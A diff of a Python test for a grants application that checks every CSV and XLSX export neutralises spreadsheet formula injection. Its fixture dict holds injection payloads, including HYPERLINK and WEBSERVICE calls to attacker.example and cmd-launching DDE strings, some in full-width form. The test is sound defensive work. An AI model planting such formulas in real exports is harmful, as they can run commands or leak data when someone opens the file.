@@ -1,6 +1,7 @@
 """Text is stored as entered and neutralised on output (docs/formats.md): EVERY registered export,
-as CSV and as XLSX, writes text that starts with ``=``, ``+``, ``-`` or ``@`` with a leading
-apostrophe, so a spreadsheet shows it instead of running it.
+as CSV and as XLSX, writes text that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width
+forms), ``|``, a tab or a carriage return with a leading apostrophe, so a spreadsheet shows it
+instead of running it.
 
 The exports are found through the registry (``interchange.exporters()``), so one added later
 is checked without touching this file. The data seeds such text into every kind of name a
@@ -20,7 +21,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from grants.models import AwardKind, AwardStatus, DecisionStatus
-from pcc_commissioning.interchange import FORMULA_PREFIXES, exporters, run_export
+from pcc_commissioning.interchange import exporters, run_export
 from tests.factories import (
     AwardFactory,
     DecisionFactory,
@@ -34,6 +35,8 @@ from tests.factories.outcomes import CommissioningPriorityFactory
 from tests.factories.providers import OrganisationFactory
 
 FY = 2019
+# Written out here rather than imported, so the test checks the module's list, not itself.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "|", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r")
 DANGEROUS = {
     "provider": '=HYPERLINK("http://attacker.example","Click")',
     "title": "+cmd|' /C calc'!A0",
@@ -41,11 +44,11 @@ DANGEROUS = {
     "stream": "@SUM(1+1)*cmd|' /C calc'!A0",
     "priority": "=1+1 priority",
     "decision": "=WEBSERVICE(\"http://attacker.example\")",
-    "invoice": "=INVOICE()",
-    "po": "+PO-1",
-    "reason": "-reason",
-    "narrative": "=1+2 narrative",
-    "kpi": "@kpi",
+    "invoice": "|cmd /C calc",
+    "po": "\uff0bPO-1",  # full-width plus
+    "reason": "\uff0dreason",  # full-width minus
+    "narrative": "\uff1d1+2 narrative",  # full-width equals
+    "kpi": "\uff20kpi",  # full-width at
 }
 
 
